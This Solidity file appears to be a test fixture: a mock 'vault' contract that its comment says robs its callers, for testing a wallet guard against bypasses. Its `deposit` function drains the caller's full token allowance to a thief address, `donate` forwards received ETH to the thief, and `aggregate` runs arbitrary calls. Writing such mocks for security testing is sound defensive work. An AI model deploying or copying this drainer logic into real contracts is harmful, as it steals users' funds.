// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

interface IERC20Like {
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// @notice A contract that looks like a vault and robs its callers, for the guard's bypass
/// tests: `deposit` pulls the caller's whole allowance to the thief, `donate` forwards the
/// ETH it gets, `aggregate` runs any calls (a multicall the wallet calls).
contract Puller {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    function deposit(address token, uint256) external {
        IERC20Like t = IERC20Like(token);
        t.transferFrom(msg.sender, thief, t.allowance(msg.sender, address(this)));
    }

    function donate() external payable {
        (bool ok,) = thief.call{value: msg.value}("");
        require(ok, "forward");
    }

    function aggregate(address[] calldata targets, bytes[] calldata calls) external payable {
        require(targets.length == calls.length, "length");
        for (uint256 i = 0; i < targets.length; i++) {
            (bool ok,) = targets[i].call(calls[i]);
            require(ok, "call");
        }
    }
}
